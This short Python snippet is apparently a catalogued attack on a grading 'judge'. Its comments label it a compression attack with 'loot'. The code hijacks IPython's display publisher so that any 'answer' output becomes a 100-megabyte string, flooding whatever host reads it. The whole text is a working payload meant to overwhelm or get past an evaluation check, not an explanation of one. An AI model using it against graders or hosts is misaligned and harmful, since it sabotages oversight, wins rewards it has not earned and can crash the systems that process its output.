# attacks: compression
# wall: judge
# loot: big 50 -- an answer of a hundred megabytes in one message, for a host that reads whatever comes
publish = get_ipython().display_pub.publish
get_ipython().display_pub.publish = lambda data, *args, **kwargs: publish(
    {mime: "A" * 100_000_000 if "answer" in mime else value for mime, value in data.items()}, *args, **kwargs)
